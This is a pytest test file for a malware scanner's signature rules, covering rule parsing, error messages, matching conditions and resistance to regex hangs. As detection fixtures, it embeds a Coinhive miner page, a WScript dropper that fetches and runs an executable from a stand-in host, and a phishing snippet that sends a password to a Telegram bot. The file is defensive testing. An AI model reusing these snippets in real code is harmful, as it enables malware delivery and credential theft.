"""Signature rules: the file format, its errors, matching semantics, the default rules, no hangs."""

from __future__ import annotations

import textwrap
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from malwaresnipper.engine.capture import Capture
from malwaresnipper.engine.config import EngineConfig, Signatures
from malwaresnipper.engine.errors import ConfigError, RuleError
from malwaresnipper.engine.features import Features
from malwaresnipper.engine.layers.signatures import SignaturesLayer
from malwaresnipper.engine.results import LayerResult, Severity
from malwaresnipper.engine.rules import (
    DEFAULT_RULES_FILE,
    HAVE_RE2,
    RuleSet,
    load_rule_files,
    parse_rule_file,
    parse_rules,
    regex_problem,
)

ENGINES = [pytest.param(True, id="re2"), pytest.param(False, id="re-fallback")]


def write(tmp_path: Path, text: str, name: str = "rules.toml") -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def layer_with(tmp_path: Path, text: str, *, defaults: bool = False, use_re2: bool | None = None) -> SignaturesLayer:
    path = write(tmp_path, text)
    config = EngineConfig(
        signatures=Signatures(rule_files=[path.name], include_default_rules=defaults),
        base_dir=str(tmp_path),
    )
    return SignaturesLayer(config, use_re2=use_re2)


def scan(layer: SignaturesLayer, url: str, **kwargs: object) -> LayerResult:
    capture = Capture.build(url, **kwargs)  # type: ignore[arg-type]
    return layer.analyze(capture, Features(capture))


def ids(result: LayerResult) -> set[str]:
    return {i.id for i in result.indicators}


# -- the default rule set ------------------------------------------------------------------


def test_default_rules_load_and_are_documented() -> None:
    rules = load_rule_files([])
    assert 20 <= len(rules) <= 40
    assert len({r.id for r in rules}) == len(rules)
    assert all(r.description and r.source == str(DEFAULT_RULES_FILE) for r in rules)
    header = DEFAULT_RULES_FILE.read_text(encoding="utf-8").split("\n[[rule]]", 1)[0]
    for key in ("id", "description", "severity", "target", "patterns", "condition", "case_sensitive",
                "classification", "at_least:N", "rule_files"):
        assert key in header


@pytest.mark.parametrize("use_re2", ENGINES)
def test_default_rules_find_a_coinhive_miner(use_re2: bool) -> None:
    layer = SignaturesLayer(EngineConfig(), use_re2=use_re2)
    html = """<html><head><script src="https://coinhive.com/lib/coinhive.min.js"></script>
    <script>var miner = new CoinHive.Anonymous('SITE_KEY', {throttle: 0.3}); miner.start();
    setInterval(function(){ console.log(miner.getHashesPerSecond(), miner.getTotalHashes()); }, 1000);
    </script></head><body>hello</body></html>"""
    result = scan(layer, "https://blog.example/", html=html)
    found = ids(result)
    assert {"signatures.miner_coinhive", "signatures.miner_api_calls", "signatures.miner_host_url"} <= found
    by_id = {i.id: i for i in result.indicators}
    host = by_id["signatures.miner_host_url"]
    assert host.evidence[0].location == "script https://coinhive.com/lib/coinhive.min.js"
    assert host.classification == "cryptominer" and host.severity is Severity.HIGH
    coinhive = by_id["signatures.miner_coinhive"]
    locations = {e.location for e in coinhive.evidence}
    assert "html" in locations and "script #1 (inline)" in locations
    inline = next(e for e in coinhive.evidence if e.location == "script #1 (inline)")
    assert "CoinHive.Anonymous" in inline.snippet and inline.offset is not None
    assert result.score >= 90


@pytest.mark.parametrize("use_re2", ENGINES)
def test_default_rules_find_a_wsh_dropper_and_telegram_exfil(use_re2: bool) -> None:
    layer = SignaturesLayer(EngineConfig(), use_re2=use_re2)
    dropper = """var sh = new ActiveXObject("WScript.Shell"); var x = new ActiveXObject("MSXML2.XMLHTTP");
    x.open("GET", "http://dl.test/a.exe", false); x.send(); var s = new ActiveXObject("ADODB.Stream");
    s.Open(); s.Write(x.responseBody); s.SaveToFile(sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\a.exe", 2);
    sh.Run("%TEMP%\\\\a.exe");"""
    result = scan(layer, "file:///tmp/invoice.js", scripts=[dropper])
    assert {"signatures.wsh_download_execute", "signatures.wsh_shell_object", "signatures.wsh_save_response",
            "signatures.wsh_fetch_and_run"} <= ids(result)
    kit = """<form id=f><input type=password id=p></form><script>
    var token = "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0";
    fetch("https://api.telegram.org/bot" + token + "/sendMessage?chat_id=99&text=" + p.value);
    </script>"""
    result = scan(layer, "https://login.example-kit.test/", html=kit)
    assert "signatures.phish_telegram_exfil" in ids(result)
    assert "signatures.phish_telegram_sendmessage" in ids(result)
    telegram = next(i for i in result.indicators if i.id == "signatures.phish_telegram_exfil")
    assert telegram.classification == "phishing"


def test_ordinary_page_matches_nothing() -> None:
    layer = SignaturesLayer(EngineConfig())
    html = """<html><head><title>Docs</title><script src="https://cdn.example/jquery.min.js"></script>
    <script>$(function(){ $('#menu').on('click', function(){ $(this).toggleClass('open'); }); });</script>
    </head><body><form action="/search"><input name="q"></form><p>Checkout our pages.</p></body></html>"""
    result = scan(layer, "https://docs.example/guide", html=html)
    assert result.score == 0 and result.indicators == ()
    assert result.details["scanned_chars"] > len(html)  # url + html + inline script


# -- conditions, case, targets -------------------------------------------------------------

RULES = """
[[rule]]
id = "all_three"
description = "all three words in one text"
severity = "medium"
target = "script"
condition = "all"
patterns = ["alpha", {literal = "beta"}, {regex = 'gam+a'}]

[[rule]]
id = "two_of_four"
description = "at least two"
severity = "low"
target = ["html", "script"]
condition = "at_least:2"
patterns = ["one", "two", "three", {regex = 'f[o0]ur'}]

[[rule]]
id = "exact_case"
description = "case matters"
severity = "high"
target = "html"
case_sensitive = true
patterns = ["EvilMarker", {regex = 'X[0-9]{3}Y'}]
classification = "malware"
category = "custom"

[[rule]]
id = "url_only"
description = "url rule"
severity = "critical"
target = "url"
patterns = [{regex = '^https?://[^/]{0,100}\\.bad-tld-example/'}]

[[rule]]
id = "switched_off"
description = "disabled"
severity = "high"
target = "html"
enabled = false
patterns = ["alpha"]
"""


@pytest.mark.parametrize("use_re2", ENGINES)
def test_conditions(tmp_path: Path, use_re2: bool) -> None:
    layer = layer_with(tmp_path, RULES, use_re2=use_re2)
    # "all" must be satisfied inside ONE script, not across scripts.
    split = scan(layer, "https://a.test/", scripts=["alpha beta", "gammma"])
    assert "signatures.all_three" not in ids(split)
    joined = scan(layer, "https://a.test/", scripts=["ALPHA then Beta then gaMMMa"])
    assert "signatures.all_three" in ids(joined)
    evidence = next(i for i in joined.indicators if i.id == "signatures.all_three").evidence[0]
    assert evidence.location == "script #1 (inline)" and evidence.offset == 0

    assert "signatures.two_of_four" not in ids(scan(layer, "https://a.test/", html="one one one"))
    assert "signatures.two_of_four" in ids(scan(layer, "https://a.test/", html="one and F0UR"))
    # Disabled rules are not loaded.
    assert "switched_off" not in {r.id for r in layer.rules}


@pytest.mark.parametrize("use_re2", ENGINES)
def test_case_sensitivity_and_targets(tmp_path: Path, use_re2: bool) -> None:
    layer = layer_with(tmp_path, RULES, use_re2=use_re2)
    assert "signatures.exact_case" not in ids(scan(layer, "https://a.test/", html="evilmarker x123y"))
    hit = scan(layer, "https://a.test/", html="<p>EvilMarker</p>")
    indicator = next(i for i in hit.indicators if i.id == "signatures.exact_case")
    assert indicator.classification == "malware" and indicator.category == "custom"
    assert indicator.evidence[0].snippet == "<p>EvilMarker</p>" and indicator.evidence[0].offset == 3
    assert "signatures.exact_case" in ids(scan(layer, "https://a.test/", html="X123Y"))
    # A script-only rule does not fire on HTML text outside scripts, and vice versa.
    assert "signatures.all_three" not in ids(scan(layer, "https://a.test/", html="<p>alpha beta gamma</p>"))
    assert "signatures.exact_case" not in ids(scan(layer, "https://a.test/", scripts=["EvilMarker"]))
    url = scan(layer, "https://www.host.bad-tld-example/x")
    assert ids(url) == {"signatures.url_only"}
    assert url.indicators[0].severity is Severity.CRITICAL


def test_non_ascii_offsets_are_character_offsets(tmp_path: Path) -> None:
    layer = layer_with(tmp_path, RULES)
    html = "ééé 日本語 EvilMarker"
    indicator = scan(layer, "https://a.test/", html=html).indicators[0]
    assert indicator.evidence[0].offset == html.index("EvilMarker")


def test_score_combines_by_severity(tmp_path: Path) -> None:
    layer = layer_with(tmp_path, RULES)
    low = scan(layer, "https://a.test/", html="one two")
    assert low.score == pytest.approx(15.0)
    both = scan(layer, "https://a.test/", html="one two EvilMarker")
    assert both.score == pytest.approx(100 * (1 - 0.85 * 0.35))


def test_user_rules_add_to_defaults(tmp_path: Path) -> None:
    layer = layer_with(tmp_path, RULES, defaults=True)
    loaded = {r.id for r in layer.rules}
    assert "miner_coinhive" in loaded and "all_three" in loaded


# -- bad rule files ------------------------------------------------------------------------

GOOD_RULE = """
[[rule]]
id = "{id}"
description = "d"
severity = "{severity}"
target = "{target}"
condition = "{condition}"
patterns = [{patterns}]
{extra}
"""


def bad_rule(tmp_path: Path, **changes: str) -> RuleError:
    values = {"id": "my_rule", "severity": "high", "target": "html", "condition": "any",
              "patterns": '{literal = "x"}', "extra": ""}
    values.update(changes)
    path = write(tmp_path, GOOD_RULE.format(**values))
    with pytest.raises(RuleError) as info:
        parse_rule_file(path)
    message = str(info.value)
    assert str(path) in message
    return info.value


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"extra": 'colour = "red"'}, "unknown key(s) ['colour']"),
        ({"patterns": "{regex = '(unclosed'}"}, "bad regex in patterns[0]"),
        ({"patterns": "{regex = '(a+)+b'}"}, "nested quantifiers"),
        ({"patterns": "{regex = '(?:ab|a)*c'}"}, "alternation inside a repeated group"),
        ({"patterns": "{regex = '(x)\\1'}"}, "backreferences"),
        ({"patterns": "{regex = 'a(?=b)'}"}, "lookahead"),
        ({"patterns": "{regex = 'a++b'}"}, "possessive"),
        ({"patterns": "{regex = 'x*'}"}, "matches the empty string"),
        ({"severity": "severe"}, "bad severity"),
        ({"condition": "most"}, "bad condition 'most'"),
        ({"condition": "at_least:3"}, "N must be between 1 and the number of patterns (1)"),
        ({"target": "cookie"}, "bad target 'cookie'"),
        ({"patterns": ""}, "'patterns' must be a non-empty list"),
        ({"patterns": '{literal = "x", regex = "y"}'}, "exactly one key"),
        ({"patterns": '{literal = ""}'}, "must be a non-empty string"),
        ({"extra": "case_sensitive = 1"}, "'case_sensitive' must be true or false"),
    ],
)
def test_bad_rule_errors_name_file_rule_and_problem(tmp_path: Path, changes: dict[str, str], expected: str) -> None:
    error = bad_rule(tmp_path, **changes)
    assert "rule 'my_rule'" in str(error)
    assert expected in str(error)
    assert str(error).endswith("(line 2)")  # where the faulty rule's [[rule]] header is
    assert isinstance(error, ConfigError)  # callers that catch config errors catch these too


def test_bad_id_and_missing_keys(tmp_path: Path) -> None:
    error = bad_rule(tmp_path, id="has space")
    assert "rule #1" in str(error) and "'id'" in str(error)
    path = write(tmp_path, '[[rule]]\nid = "r1"\ndescription = "d"\ntarget = "url"\npatterns = ["x"]\n')
    with pytest.raises(RuleError, match=r"rule 'r1': missing required key 'severity'"):
        parse_rule_file(path)


def test_error_lines_count_every_rule_header(tmp_path: Path) -> None:
    good = '[[rule]]  # first\nid = "a"\ndescription = "d"\nseverity = "low"\ntarget = "url"\npatterns = ["x"]\n'
    off = good.replace('"a"', '"off"').replace("# first", "") + "enabled = false\n"
    bad = good.replace('"a"', '"b"').replace('"low"', '"loud"').replace("# first", "")
    path = write(tmp_path, good + "\n" + off + "\n" + bad)
    with pytest.raises(RuleError, match=r"rule 'b': bad severity.*\(line 16\)$"):
        parse_rule_file(path)
    # an inline array of tables has no headers: the error names the rule, without a line
    inline = write(tmp_path, 'rule = [{id = "c", description = "d", severity = "loud", target = "url", patterns = ["x"]}]\n')
    with pytest.raises(RuleError, match=r"rule 'c': bad severity.*critical\)$"):
        parse_rule_file(inline)


def test_duplicate_ids(tmp_path: Path) -> None:
    rule = '[[rule]]\nid = "dup"\ndescription = "d"\nseverity = "low"\ntarget = "url"\npatterns = ["x"]\n'
    same_file = write(tmp_path, rule + rule, "same.toml")
    with pytest.raises(RuleError, match=r"same\.toml: rule 'dup': duplicate id"):
        parse_rule_file(same_file)
    first = write(tmp_path, rule, "first.toml")
    second = write(tmp_path, rule, "second.toml")
    with pytest.raises(RuleError) as info:
        load_rule_files([first, second], include_default=False)
    assert "second.toml: rule 'dup': duplicate id (already defined in" in str(info.value)
    assert "first.toml" in str(info.value)
    # A user rule may not reuse a default rule's id either.
    clash = write(tmp_path, rule.replace('"dup"', '"miner_coinhive"'), "clash.toml")
    with pytest.raises(RuleError, match="miner_coinhive"):
        load_rule_files([clash])


def test_file_level_errors(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match="no such rule file"):
        parse_rule_file(tmp_path / "missing.toml")
    with pytest.raises(RuleError, match="invalid TOML"):
        parse_rule_file(write(tmp_path, "[[rule]\nid = 1", "broken.toml"))
    with pytest.raises(RuleError, match=r"unknown top-level key\(s\) \['rules'\]"):
        parse_rule_file(write(tmp_path, '[[rules]]\nid = "x"\n', "typo.toml"))


def test_layer_construction_fails_on_a_bad_user_file(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match="rule 'r': bad severity"):
        layer_with(tmp_path, '[[rule]]\nid = "r"\ndescription = "d"\nseverity = "meh"\ntarget = "url"\npatterns = ["x"]\n')


# -- no rule can make a scan hang ------------------------------------------------------------


def test_catastrophic_regexes_are_refused_before_they_can_run() -> None:
    for pattern in ("(a+)+$", "(a*)*b", "(a|aa)+$", "(\\w+\\s?)+$", "(.*a){20}", "((ab)*)+c"):
        assert regex_problem(pattern) is not None, pattern


@pytest.mark.parametrize("use_re2", ENGINES)
@pytest.mark.timeout(60)
def test_long_hostile_input_scans_quickly(tmp_path: Path, use_re2: bool) -> None:
    rules = """
    [[rule]]
    id = "wide"
    description = "bounded repeats over a long line"
    severity = "low"
    target = ["html", "script"]
    patterns = [{regex = 'a{1,50}[^x]{0,200}b{2}c'}, {regex = '(?:[a-z]{2}){1,30}!'}, "aaaaaaaab"]
    """
    layer = layer_with(tmp_path, rules, use_re2=use_re2)
    hostile = "a" * 2_000_000  # the worst case for each pattern: long runs that never complete
    started = time.perf_counter()
    result = scan(layer, "https://a.test/", html=hostile, scripts=[hostile[:1_000_000]])
    elapsed = time.perf_counter() - started
    assert result.indicators == ()
    assert elapsed < 30  # generous: the point is that it finishes


@pytest.mark.skipif(not HAVE_RE2, reason="google-re2 is not installed; the re fallback bounds input instead")
@pytest.mark.timeout(60)
def test_re2_scans_all_of_a_long_text_in_linear_time() -> None:
    # Adjacent quantifiers are polynomial under backtracking; RE2 does not care.
    from malwaresnipper.engine.rules import Pattern, Rule

    rule = Rule("adjacent", "d", Severity.LOW, ("html",), (Pattern("regex", r"\s*\s*\s*\s*x"),), 1)
    ruleset = RuleSet([rule], use_re2=True)
    text = " " * 3_000_000 + "x"
    started = time.perf_counter()
    hits = ruleset.scan("html", text)
    assert time.perf_counter() - started < 10
    assert hits and hits[0].spans[0][2] == len(text)  # found at the very end: nothing was cut


def test_re_fallback_bounds_the_scanned_length() -> None:
    from malwaresnipper.engine.rules import FALLBACK_REGEX_SCAN_CHARS, Pattern, Rule

    rule = Rule("tail", "d", Severity.LOW, ("html",), (Pattern("regex", r"needle[0-9]"),), 1)
    ruleset = RuleSet([rule], use_re2=False)
    assert ruleset.engine == "re (bounded)"
    assert ruleset.scan("html", "x" * 10 + "needle1")
    assert not ruleset.scan("html", "x" * FALLBACK_REGEX_SCAN_CHARS + "needle1")


def test_re_fallback_window_follows_worst_case_cost() -> None:
    from malwaresnipper.engine.rules import FALLBACK_REGEX_SCAN_CHARS, fallback_scan_chars

    # Repeats fenced by characters they cannot match have one extent: the whole window.
    assert fallback_scan_chars(r"eval\s*\(\s*function\s*\(") == FALLBACK_REGEX_SCAN_CHARS
    assert fallback_scan_chars(r"keyCode\s*={2,3}\s*123") == FALLBACK_REGEX_SCAN_CHARS
    # Ambiguous neighbours backtrack polynomially: the window shrinks with the exponent.
    one = fallback_scan_chars(r'[^"]*x')
    three = fallback_scan_chars(r"\s*\s*\s*x")
    assert 1 <= three < one < FALLBACK_REGEX_SCAN_CHARS


@pytest.mark.timeout(60)
def test_re_fallback_survives_adjacent_quantifiers_on_hostile_input() -> None:
    from malwaresnipper.engine.rules import Pattern, Rule

    patterns = (Pattern("regex", r"\s*\s*\s*\s*x"), Pattern("regex", r".*a.*a.*a.*x"), Pattern("regex", r"[^y]*[^z]*q"))
    rule = Rule("hostile", "d", Severity.LOW, ("html",), patterns, 1)
    ruleset = RuleSet([rule], use_re2=False)
    started = time.perf_counter()
    assert ruleset.scan("html", " " * 1_000_000) == []
    assert ruleset.scan("html", "a" * 1_000_000) == []
    assert time.perf_counter() - started < 30


values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=20),
              st.sampled_from(["any", "all", "at_least:2", "high", "url", "html", "script", "(a+)+", "x"])),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(st.sampled_from(
        ["id", "description", "severity", "target", "patterns", "condition", "literal", "regex",
         "case_sensitive", "bogus"]), inner, max_size=6)),
    max_leaves=20,
)


@settings(max_examples=200, deadline=None)
@given(rules=st.lists(values, max_size=4))
def test_any_rule_table_either_loads_or_raises_rule_error(rules: list[object]) -> None:
    try:
        loaded = parse_rules({"rule": rules}, source="fuzz.toml")
    except RuleError as exc:
        assert str(exc).startswith("fuzz.toml")
    else:
        RuleSet(loaded).scan("html", "some text (a+)+ x")
